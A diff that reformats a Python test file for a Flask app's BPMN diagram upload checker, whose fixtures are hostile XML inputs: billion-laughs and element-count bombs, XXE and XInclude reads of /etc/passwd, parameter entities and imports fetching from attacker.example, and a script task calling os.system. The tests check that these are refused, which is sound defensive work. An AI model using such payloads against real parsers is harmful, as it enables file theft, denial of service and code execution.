@@ -1,5 +1,6 @@
 """An uploaded diagram is a code deployment: malicious files are refused with a reason and an audit
 event; `flask processes lint` prints one line per problem."""
+
 import hashlib
 import socket
 from pathlib import Path
@@ -14,33 +15,51 @@ from app.services.design import designer, processes
 
 ROOT = Path(__file__).resolve().parents[2]
 XML = (ROOT / "processes" / "rectification.bpmn").read_bytes()
-OPEN = ('<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" '
-        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" id="d" targetNamespace="t">')
+OPEN = (
+    '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" '
+    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" id="d" targetNamespace="t">'
+)
 
-BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
-                  + b"".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">'.encode()
-                             for i in range(1, 10))
-                  + b"]>" + OPEN.encode() + b"<bpmn:process id='p'><bpmn:documentation>&lol9;</bpmn:documentation>"
-                  + b"</bpmn:process></bpmn:definitions>")
-EXTERNAL = (b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
-            + OPEN.encode() + b"<bpmn:process id='p' name='&xxe;'/></bpmn:definitions>")
-PARAMETER_ENTITY = (b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">'
-                    b"%remote;]>" + OPEN.encode() + b"</bpmn:definitions>")
+BILLION_LAUGHS = (
+    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + b"".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">'.encode() for i in range(1, 10))
+    + b"]>"
+    + OPEN.encode()
+    + b"<bpmn:process id='p'><bpmn:documentation>&lol9;</bpmn:documentation>"
+    + b"</bpmn:process></bpmn:definitions>"
+)
+EXTERNAL = (
+    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+    + OPEN.encode()
+    + b"<bpmn:process id='p' name='&xxe;'/></bpmn:definitions>"
+)
+PARAMETER_ENTITY = (
+    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">'
+    b"%remote;]>" + OPEN.encode() + b"</bpmn:definitions>"
+)
 DOCTYPE_ONLY = b'<?xml version="1.0"?><!DOCTYPE definitions>' + XML.split(b"?>", 1)[1]
 SCRIPT_TASK = XML.replace(
     b'<bpmn:userTask id="deploy" name="',
     b'<bpmn:scriptTask id="evil" name="x"><bpmn:script>import os; os.system("id")</bpmn:script></bpmn:scriptTask>'
-    b'<bpmn:userTask id="deploy" name="')
+    b'<bpmn:userTask id="deploy" name="',
+)
 
 # 60,000 data objects in 1.9 MB: under the size cap, far over the element count.
 _PROCESS_OPEN = XML.index(b">", XML.index(b"<bpmn:process ")) + 1
-ELEMENT_BOMB = (XML[:_PROCESS_OPEN] + b"".join(b'<bpmn:dataObject id="d%d"/>' % i for i in range(60_000))
-                + XML[_PROCESS_OPEN:])
-XINCLUDE = XML.replace(b'<bpmn:userTask id="deploy" name="',
-                       b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
-                       b'<bpmn:userTask id="deploy" name="')
-IMPORT_LOCATION = XML.replace(b"<bpmn:process ", b'<bpmn:import importType="http://www.omg.org/spec/BPMN/20100524/MODEL" '
-                              b'location="http://attacker.example/other.bpmn" namespace="x"/><bpmn:process ', 1)
+ELEMENT_BOMB = (
+    XML[:_PROCESS_OPEN] + b"".join(b'<bpmn:dataObject id="d%d"/>' % i for i in range(60_000)) + XML[_PROCESS_OPEN:]
+)
+XINCLUDE = XML.replace(
+    b'<bpmn:userTask id="deploy" name="',
+    b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
+    b'<bpmn:userTask id="deploy" name="',
+)
+IMPORT_LOCATION = XML.replace(
+    b"<bpmn:process ",
+    b'<bpmn:import importType="http://www.omg.org/spec/BPMN/20100524/MODEL" '
+    b'location="http://attacker.example/other.bpmn" namespace="x"/><bpmn:process ',
+    1,
+)
 
 
 def _condition(expression: bytes) -> bytes:
@@ -123,8 +142,11 @@ def test_lint_cli_prints_one_line_per_problem_and_fails_on_errors(runner, tmp_pa
     result = runner.invoke(args=["processes", "lint", str(good)])
     assert result.exit_code == 0, result.output
     bad = tmp_path / "bad.bpmn"
-    bad.write_bytes(XML.replace(b'form_key" value="assessment"', b'form_key" value="no_such_form"')
-                    .replace(b'id="send_reminder"', b'id="rm_rf"', 1))
+    bad.write_bytes(
+        XML.replace(b'form_key" value="assessment"', b'form_key" value="no_such_form"').replace(
+            b'id="send_reminder"', b'id="rm_rf"', 1
+        )
+    )
     result = runner.invoke(args=["processes", "lint", str(good), str(bad)])
     assert result.exit_code == 1
     lines = [line for line in result.output.splitlines() if line.startswith(str(bad))]
@@ -165,8 +187,12 @@ def test_schema_location_is_a_hint_never_fetched(ctx, monkeypatch):
         raise AssertionError("the lint opened a network connection")
 
     monkeypatch.setattr(socket.socket, "connect", no_network)
-    hinted = XML.replace(b'<bpmn:definitions ', b'<bpmn:definitions xsi:schemaLocation="http://www.omg.org/spec/BPMN/'
-                         b'20100524/MODEL http://attacker.example/BPMN20.xsd" ', 1)
+    hinted = XML.replace(
+        b"<bpmn:definitions ",
+        b'<bpmn:definitions xsi:schemaLocation="http://www.omg.org/spec/BPMN/'
+        b'20100524/MODEL http://attacker.example/BPMN20.xsd" ',
+        1,
+    )
     assert b"attacker.example" in hinted
     assert designer.check_upload(hinted, "r.bpmn", None) == []
     assert designer.lint(hinted, "r.bpmn") == []
